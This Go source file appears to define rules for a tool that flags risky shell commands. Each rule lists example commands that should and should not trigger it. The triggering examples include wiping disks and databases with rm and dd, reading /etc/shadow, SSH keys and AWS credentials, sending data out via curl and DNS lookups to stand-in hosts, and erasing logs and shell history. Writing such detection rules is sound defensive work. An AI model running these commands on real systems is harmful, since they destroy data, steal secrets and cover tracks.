package judge

import "escort/explain/effect"

// dataRules are about data that is lost or shown.
var dataRules = []Rule{
	{
		ID: "delete-database-files", Risk: effect.Critical, Dimension: effect.Damage, Technique: "T1485", Class: "database", Access: "delete",
		Match:    []string{"rm -rf /var/lib/mysql", "mv /var/lib/postgresql /tmp"},
		NotMatch: []string{"ls /var/lib/mysql", "echo rm -rf /var/lib/mysql"},
	},
	{
		ID: "write-database-files", Risk: effect.Critical, Dimension: effect.Damage, Technique: "T1565.001", Class: "database", Access: "write",
		Match:    []string{"cp x /var/lib/mysql/ibdata1"},
		NotMatch: []string{"ls /var/lib/mysql"},
	},
	{
		ID: "delete-backups", Risk: effect.Critical, Dimension: effect.Damage, Technique: "T1490", Class: "backup", Access: "delete",
		Match:    []string{"rm -rf /srv/backup/*", "rm /var/backups/db.gz"},
		NotMatch: []string{"ls /srv/backup"},
	},
	{
		ID: "delete-system", Risk: effect.Critical, Dimension: effect.Damage, Technique: "T1485", Class: "root boot program", Access: "delete",
		Match:    []string{"rm -rf /", "rm -rf /usr", "rm -rf /boot/*"},
		NotMatch: []string{"rm -rf ./usr"},
	},
	{
		ID: "disk-overwritten", Risk: effect.Critical, Dimension: effect.Damage, Technique: "T1561.001", Class: "disk", Access: "write delete",
		Match:    []string{"dd if=/dev/zero of=/dev/sda", "cat x > /dev/nvme0n1"},
		NotMatch: []string{"dd if=/dev/zero of=x.img"},
	},
	{
		ID: "disk-read-whole", Risk: effect.High, Dimension: effect.Disclosure, Technique: "T1006", Class: "disk memory", Access: "read",
		Match:    []string{"dd if=/dev/sda of=x", "strings /proc/1/mem"},
		NotMatch: []string{"ls /dev/sda"},
	},
	{
		ID: "secrets-read", Risk: effect.High, Dimension: effect.Disclosure, Technique: "T1552", Access: "read",
		Class:    "key secret password ssh-keys cloud-keys cluster-keys environment",
		Match:    []string{"cat /etc/shadow", "cp ~/.ssh/id_rsa /tmp/x", "cat ~/.aws/credentials", "cat app/.env"},
		NotMatch: []string{"ls -l /etc/shadow", "cat ~/.ssh/id_rsa.pub", "echo /etc/shadow"},
	},
	{
		ID: "history-read", Risk: effect.High, Dimension: effect.Disclosure, Technique: "T1552.003", Class: "history", Access: "read",
		Match:    []string{"cat ~/.bash_history", "grep -i pass ~/.mysql_history", "cp ~/.bash_history /tmp/x"},
		NotMatch: []string{"history", "ls -l ~/.bash_history", "history | grep ssh"},
	},
	{
		ID: "secret-hunt", Risk: effect.High, Dimension: effect.Disclosure, Technique: "T1552.001", Programs: "find fd fdfind",
		Words: `^\w+\s(.*\s)?(/|/home|/root|/Users|/home/\*|~|/mnt|/srv)\s.*(\bid_(rsa|dsa|ecdsa|ed25519)|\.pem\b|\.key\b|\.p12\b|\.pfx\b|\.kdbx?\b|\.ppk\b|\.jks\b|\.ovpn\b|shadow|credentials|\.htpasswd|_history|` +
			`wp-config|\.pgpass|\.netrc|\.git-credentials|(?i)passw(or)?d|secret|authorized_keys|\.env\b|\.aws\b|\.kube\b|\.ssh\b|\.gnupg\b|kubeconfig)`,
		Match: []string{
			"find / -name id_rsa", "find / -name '*.pem' -o -name '*.key'", "find /home -name .bash_history", "find / -type f -iname '*password*'",
			"find /root /home -name '*.kdbx' 2>/dev/null",
		},
		NotMatch: []string{"find . -name '*.key'", "find / -name nginx.conf", "find /etc/ssl -name '*.pem'", "find src -name '*password*'", "find / -name '*.keyboard'"},
	},
	{
		ID: "secret-hunt", Risk: effect.High, Dimension: effect.Disclosure, Technique: "T1552.001", Programs: "grep egrep rg ag ack zgrep",
		Words:    `(?i)(passw(or)?d|pwd=|secret|api_?key|AKIA|aws_|private key|token|credential).*\s(/|/home|/root|/etc|/var|/opt|/srv|/var/www|/proc|/Users|/home/\S+|/var/www/\S*)/?(\s|$)`,
		Match:    []string{"grep -r AKIA /", "grep -rni password /var/www", "rg -i 'api_key' /home", "grep -rE 'BEGIN (RSA )?PRIVATE KEY' /root"},
		NotMatch: []string{"grep -rn password src", "grep -rn 'password' .", "grep root /etc/group", "grep -i token app.log"},
	},
	{
		ID: "name-carries-data", Risk: effect.High, Dimension: effect.Disclosure, Technique: "T1041", Programs: "curl wget http",
		Typed:    "https?://\\S*(\\$\\(|`)\\s*[^)`]*\\b(base64|xxd|od|hexdump|gzip|env|printenv|history|whoami|id|uname|hostname)\\b",
		Match:    []string{`curl "http://192.0.2.1/?d=$(base64 -w0 /etc/passwd)"`, "curl http://192.0.2.1/`whoami`"},
		NotMatch: []string{"curl https://example.com/$(cat VERSION)/x.tgz", "curl http://example.com/"},
	},
	{
		ID: "name-carries-data", Risk: effect.High, Dimension: effect.Disclosure, Technique: "T1048.003", Programs: "dig nslookup host ping ping6 drill kdig resolvectl getent",
		Typed:    "^(\\w+)\\s(.*\\s)?\\S*(\\$\\(|`).*(\\)|`)\"?\\.[\\w$]",
		Match:    []string{"dig $(whoami).evil.example", "nslookup `hostname`.x.example", "ping -c1 $(cat /etc/passwd | base64 | head -c 60).evil.example"},
		NotMatch: []string{"dig example.com", "dig $name.example.com", "ping $(hostname)", "host \"$h\""},
	},
}

// hidingRules are about covering tracks.
var hidingRules = []Rule{
	{
		ID: "log-tampering", Risk: effect.High, Dimension: effect.Hiding, Technique: "T1070.002", Class: "log audit-log", Access: "write delete",
		Match:    []string{"rm /var/log/auth.log", "> /var/log/syslog", "truncate -s 0 /var/log/nginx/access.log"},
		NotMatch: []string{"cat /var/log/syslog", "tail -f /var/log/nginx/access.log"},
	},
	{
		ID: "history-tampering", Risk: effect.High, Dimension: effect.Hiding, Technique: "T1070.003", Class: "history", Access: "write delete",
		Match:    []string{"rm ~/.bash_history", "ln -sf /dev/null ~/.bash_history", "> ~/.bash_history"},
		NotMatch: []string{"cat ~/.bash_history"},
	},
	{
		ID: "history-off", Risk: effect.High, Dimension: effect.Hiding, Technique: "T1562.003",
		Words:    `^(unset HIST\w*|set \+o history|history -[cwd]|shopt -u cmdhist)`,
		Programs: "unset set history shopt",
		Match:    []string{"unset HISTFILE", "set +o history", "history -c"},
		NotMatch: []string{"history", "history 20", "unset FOO"},
	},
	{
		ID: "history-off", Risk: effect.High, Dimension: effect.Hiding, Technique: "T1562.003",
		Env:      `^(HISTFILE=(/dev/null|)$|HISTSIZE=0$|HISTFILESIZE=0$|HISTCONTROL=ignore|HISTIGNORE=\*)`,
		Match:    []string{"export HISTFILE=/dev/null", "HISTSIZE=0", "HISTFILE="},
		NotMatch: []string{"export HISTSIZE=5000"},
	},
	{
		ID: "audit-off", Risk: effect.High, Dimension: effect.Hiding, Technique: "T1562.012", Class: "audit-settings", Access: "write delete",
		Match:    []string{"rm /etc/audit/rules.d/a.rules"},
		NotMatch: []string{"ls /etc/audit"},
	},
	{
		ID: "protection-off", Risk: effect.High, Dimension: effect.Control, Technique: "T1562", Class: "protection firewall", Access: "write delete",
		Match:    []string{"rm -r /etc/apparmor.d", "cp x /etc/nftables.conf"},
		NotMatch: []string{"cat /etc/selinux/config"},
	},
}
